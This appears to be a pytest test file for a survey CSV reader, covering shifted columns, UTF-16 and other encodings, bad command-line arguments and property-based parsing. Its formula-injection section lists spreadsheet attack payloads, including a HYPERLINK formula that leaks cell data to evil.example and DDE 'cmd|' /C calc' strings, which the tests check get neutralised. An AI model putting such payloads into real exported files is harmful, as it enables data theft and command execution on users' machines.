"""Bad survey inputs (issue 10): shifted columns, formula injection, UTF-16, extreme claims, one-line errors,
and property-based tests of the CSV reader. Every corpus file is written by the test itself."""

from __future__ import annotations

import codecs
import csv
import io
import json

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core import ASSETS_DIR
from core import survey as sv
from core.answer_text import normalize_answer
from core.survey.reading import _dedupe
from tests.bad_inputs.conftest import assert_refused, run_cli

DEMO = ASSETS_DIR / "demo_survey.csv"
PROPERTY = settings(max_examples=150, deadline=None, database=None,
                    suppress_health_check=[HealthCheck.too_slow])  # fmt: skip


def _report(*args) -> dict:
    result = run_cli("core.survey", "report", *map(str, args), "--json")
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout, parse_constant=_no_constant)


def _no_constant(name: str):
    raise AssertionError(f"{name} is not valid JSON")


def _write(tmp_path, name: str, data: bytes):
    path = tmp_path / name
    path.write_bytes(data)
    return path


# ------------------------------------------------------------------------------ #5 shifted columns

SHIFTED = (
    "Group,Convinced,Comment\n"
    "a,Yes,first answer,\n"  # a stray trailing comma on the first data row only
    "b,Yes,second answer\n"
    "a,No,third answer\n"
    "b,Yes,fourth answer\n"
)


def test_trailing_comma_on_first_row_does_not_shift_columns(tmp_path):
    survey = sv.read_survey(SHIFTED.encode())
    assert list(survey.frame.columns) == ["Group", "Convinced", "Comment"]
    assert survey.frame["Group"].tolist() == ["a", "b", "a", "b"]
    assert survey.frame["Convinced"].tolist() == ["Yes", "Yes", "No", "Yes"]
    assert survey.frame["Comment"].tolist()[0] == "first answer"
    report = _report(_write(tmp_path, "shifted.csv", SHIFTED.encode()), "--question", "Convinced")
    assert report["questions"]["Convinced"] == {"Yes": 3, "No": 1}
    assert (report["test"]["observed_positive"], report["test"]["n"]) == (3, 4)


def test_trailing_comma_on_every_row_is_read_too():
    text = "Q,Name\n" + "".join(f"{a},{n},\n" for a, n in [("Yes", "x"), ("No", "y"), ("Yes", "z")])
    frame = sv.read_survey(text.encode()).frame
    assert frame.to_dict("list") == {"Q": ["Yes", "No", "Yes"], "Name": ["x", "y", "z"]}


def test_extra_answer_past_the_header_is_refused_not_dropped(tmp_path):
    text = "Q,Name\nYes,x,\nNo,y,surprise\nYes,z,\n"
    with pytest.raises(sv.SurveyError, match="Response 2 has more answers"):
        sv.read_survey(text.encode())
    assert_refused(run_cli("core.survey", "report", _write(tmp_path, "extra.csv", text.encode())),
                   "more answers than the header")  # fmt: skip


# ------------------------------------------------------------------------------ #9 formula injection

ATTACKS = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")": "'=HYPERLINK(",
    "+cmd|' /C calc'!A0": "'+cmd",
    "-2+3+cmd|' /C calc'!A0": "'-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0": "'@SUM",
}


def test_cleaned_csv_neutralises_formulas():
    rows = [["=cmd|' /C calc'!A0", "Comment", "Score"]]
    rows += [[f"x{i}", attack, "-3"] for i, attack in enumerate(ATTACKS)] + [["x9", "plain answer", "+1.5e3"]]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    survey = sv.read_survey(buf.getvalue().encode())
    clean = sv.clean_survey(survey, roles={c: sv.ROLE_FREE_TEXT for c in survey.frame.columns})
    back = pd.read_csv(io.BytesIO(sv.cleaned_csv_bytes(clean)), dtype=str, keep_default_na=False)
    assert back.columns[0] == "'=cmd|' /C calc'!A0"
    for cell, expected in zip(back["Comment"], [*ATTACKS.values(), "plain answer"]):
        assert cell.startswith(expected), cell
    assert not any(c.startswith(("=", "+", "-", "@")) for c in back["Comment"])
    # Genuine numbers cannot call anything and stay numbers a spreadsheet can add up.
    assert back["Score"].tolist() == ["-3"] * len(ATTACKS) + ["+1.5e3"]


@pytest.mark.parametrize("cell, safe", [
    ("=1+1", "'=1+1"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("@A1", "'@A1"), ("-A1", "'-A1"),
    ("+", "'+"), ("-", "'-"), ("-1e", "'-1e"), ("-12", "-12"), ("-0.5", "-0.5"), ("+3", "+3"),
    ("hello", "hello"), ("", ""), ("'=already", "'=already"),
])  # fmt: skip
def test_neutralise_formula_cases(cell, safe):
    assert sv.neutralise_formula(cell) == safe


# ------------------------------------------------------------------------------ encodings

UTF16_ROWS = [["Question", "Name"], ["Yes", "Zoë"], ["No", "José"], ["Yes", "李"]]


def _csv_text(rows, delimiter=",") -> str:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buf.getvalue()


@pytest.mark.parametrize("encoding, reported", [
    ("utf-16", "utf-16"), ("utf-16-le", "utf-16-le"), ("utf-16-be", "utf-16-be"), ("utf-32", "utf-32"),
])  # fmt: skip
def test_utf16_csv_is_read(encoding, reported, tmp_path):
    data = _csv_text(UTF16_ROWS, delimiter="\t" if encoding == "utf-16" else ",").encode(encoding)
    survey = sv.read_survey(data)
    assert survey.encoding == reported
    assert list(survey.frame.columns) == ["Question", "Name"]  # no BOM left on the first header
    assert survey.frame["Name"].tolist() == ["Zoë", "José", "李"]
    if encoding == "utf-16":  # what Excel's "Unicode text" export writes: UTF-16 with BOM, tab-separated
        assert survey.delimiter == "\t"
        report = _report(_write(tmp_path, "excel.csv", data), "--question", "Question")
        assert report["encoding"] == "utf-16" and report["questions"]["Question"] == {"Yes": 2, "No": 1}


def test_damaged_utf16_names_the_encoding(tmp_path):
    data = codecs.BOM_UTF16_LE + _csv_text(UTF16_ROWS).encode("utf-16-le")[:-1]
    with pytest.raises(sv.SurveyError, match="UTF-16"):
        sv.read_survey(data)
    assert_refused(run_cli("core.survey", "report", _write(tmp_path, "cut.csv", data)), "UTF-16")


def test_semicolon_file_with_decimal_commas():
    text = "Score;Answer\n3,5;Yes\n4,0;No\n2,5;Yes\n"
    survey = sv.read_survey(text.encode("latin-1"))
    assert survey.delimiter == ";" and survey.frame["Score"].tolist() == ["3,5", "4,0", "2,5"]


# ------------------------------------------------------------------------------ extreme claims, valid JSON


@pytest.mark.parametrize("claim", ["1e-300", "1e-7", "0.9999999", "1", "0", "-0.5", "nan", "inf", "-inf"])
def test_out_of_range_claim_is_one_line(claim):
    assert_refused(run_cli("core.survey", "report", DEMO, f"--claim={claim}", "--json"), "claim")


@pytest.mark.parametrize("alpha", ["1e-300", "0.9", "nan"])
def test_out_of_range_alpha_is_one_line(alpha):
    assert_refused(run_cli("core.survey", "report", DEMO, f"--alpha={alpha}"), "alpha")


@pytest.mark.parametrize("claim, alpha", [("0.001", "0.05"), ("0.999", "0.05"), ("0.7", "1e-6"), ("0.5", "0.5")])  # noqa: E501
def test_json_is_always_valid_at_the_edges(claim, alpha):
    report = _report(DEMO, "--claim", claim, "--alpha", alpha)
    numbers = [v for v in report["test"].values() if isinstance(v, float)]
    assert numbers and all(v == v and abs(v) != float("inf") for v in numbers)
    assert "nan" not in report["test"]["verdict"]


def test_report_json_never_writes_nan():
    text = sv.report_json({"a": float("nan"), "b": [float("inf"), 1.5], "c": {"d": -float("inf")}})
    assert json.loads(text, parse_constant=_no_constant) == {"a": None, "b": [None, 1.5], "c": {"d": None}}


def test_claim_test_refuses_bad_counts():
    with pytest.raises(sv.SurveyError, match="between 0 and 10"):
        sv.claim_test(11, 10)
    with pytest.raises(sv.SurveyError, match="no answers"):
        sv.claim_test(0, 0)
    with pytest.raises(sv.SurveyError, match="whole numbers"):
        sv.claim_test(2.5, 10)


# ------------------------------------------------------------------------------ every failure one line


def _cases(tmp_path) -> list[tuple[list, str]]:
    write = lambda name, data: str(_write(tmp_path, name, data))  # noqa: E731
    wide = ",".join(f"q{i}" for i in range(sv.MAX_COLUMNS + 5)) + "\n" + ",".join("x" * (sv.MAX_COLUMNS + 5))
    return [
        ([write("empty.csv", b"")], "empty"),
        ([write("blank.csv", b" \r\n\t\n")], "empty"),
        ([write("bom-only.csv", codecs.BOM_UTF16_LE)], "empty"),
        ([write("binary.csv", bytes(range(256)) * 16)], "not a CSV"),
        ([write("png.csv", b"\x89PNG\r\n\x1a\n" + bytes(200))], "not a CSV"),
        ([write("header.csv", b"q1,q2\n")], "no responses"),
        ([write("wide.csv", wide.encode())], "columns"),
        ([write("ragged.csv", b"q,r\nYes,a\nNo,b,c,d\n")], "Could not read"),
        ([write("quote.csv", b'q,r\nYes,"never closed\nNo,b\n')], "Could not read"),
        ([write("free.csv", b"Comment\nnice\ngreat idea\nnot for me\n")], "yes/no"),
        ([str(tmp_path / "missing.csv")], "No such file"),
        ([str(tmp_path)], "folder"),
        ([str(DEMO), "--question", "favourite colour"], "Unknown question"),
        ([str(DEMO), "--question", "prefer"], "be more specific"),
        ([str(DEMO), "--question", "diversity", "--positive", "Maybe"], "not an answer"),
        ([str(DEMO), "--claim", "abc"], "invalid float"),
        ([str(DEMO), "--bogus"], "unrecognized"),
    ]


def test_every_failure_is_one_line(tmp_path):
    for args, words in _cases(tmp_path):
        line = assert_refused(run_cli("core.survey", "report", *args), words)
        assert line.startswith("python -m core.survey: error:"), line


def test_no_command_is_one_line():
    assert_refused(run_cli("core.survey"), "required")


# ------------------------------------------------------------------------------ property-based: the reader

_LATIN = "abcXYZ019 éüßñ\"'-=+.\n"
_WIDE = _LATIN + "€漢字😀"
_ENCODINGS = ["utf-8", "utf-8-sig", "latin-1", "utf-16"]
_BOMS = [b"", codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE, codecs.BOM_UTF32_LE]


def _read_or_refuse(data: bytes):
    """The contract: a parsed Survey or a SurveyError, nothing else."""
    try:
        return sv.read_survey(data)
    except sv.SurveyError as exc:
        assert "\n" not in str(exc) and str(exc)
        return None


@PROPERTY
@given(prefix=st.sampled_from(_BOMS), data=st.binary(max_size=2048))
def test_random_bytes_never_crash(prefix, data):
    _read_or_refuse(prefix + data)


@PROPERTY
@given(text=st.text(max_size=400), encoding=st.sampled_from(_ENCODINGS), bom=st.booleans())
def test_random_text_never_crashes(text, encoding, bom):
    data = text.encode(encoding, errors="replace")
    _read_or_refuse((codecs.BOM_UTF8 if bom and encoding == "utf-8" else b"") + data)


@st.composite
def _tables(draw):
    encoding = draw(st.sampled_from(_ENCODINGS))
    delimiter = draw(st.sampled_from(sv.DELIMITERS))
    others = "".join(d for d in sv.DELIMITERS if d != delimiter)
    chars = _LATIN if encoding == "latin-1" else _WIDE
    alphabet = "".join(ch for ch in chars if ch not in others) + delimiter
    n_cols = draw(st.integers(2, 5))
    header = draw(st.lists(st.text(alphabet, min_size=1, max_size=12).filter(str.strip).map(str.strip),
                           min_size=n_cols, max_size=n_cols, unique=True))  # fmt: skip
    cell = st.text(alphabet, max_size=15)
    rows = draw(st.lists(st.lists(cell, min_size=n_cols, max_size=n_cols), min_size=1, max_size=8))
    return encoding, delimiter, header, rows


@PROPERTY
@given(table=_tables())
def test_written_tables_read_back(table):
    encoding, delimiter, header, rows = table
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\n").writerows([header, *rows])
    data = buf.getvalue().encode(encoding)
    survey = sv.read_survey(data)
    if encoding == "latin-1" and _is_utf8(data):
        return  # Latin-1 bytes that also form valid UTF-8 are read as UTF-8: the same bytes, no way to tell
    assert survey.delimiter == delimiter
    # Headers are normalised like answers (issue 23, #2): "a\nb" and "a b" name the same question.
    assert list(survey.frame.columns) == _dedupe([normalize_answer(h) or f"Column {i + 1}"
                                                  for i, h in enumerate(header)])
    assert survey.frame.to_numpy().tolist() == [[c.strip() for c in row] for row in rows]


def _is_utf8(data: bytes) -> bool:
    try:
        data.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return True
